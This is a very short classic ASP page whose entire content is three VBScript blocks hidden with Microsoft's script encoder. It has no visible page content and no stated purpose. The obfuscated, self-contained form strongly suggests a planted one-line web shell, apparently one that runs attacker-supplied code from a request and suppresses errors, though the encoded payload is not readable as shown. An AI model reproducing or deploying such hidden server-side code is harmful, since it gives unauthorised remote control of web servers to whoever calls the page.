<%@ LANGUAGE = VBScript.Encode %>
<%#@~^LAAAAA==@#@&P~,l1O+r\+:r~8 ~DDKD ,d^vm\+v# ~G"lwMAAA==^#~@%>
<%#@~^HQAAAA==v,R+M.W.PM+/!:n~+X6D/@#@&pwQAAA==^#~@%>
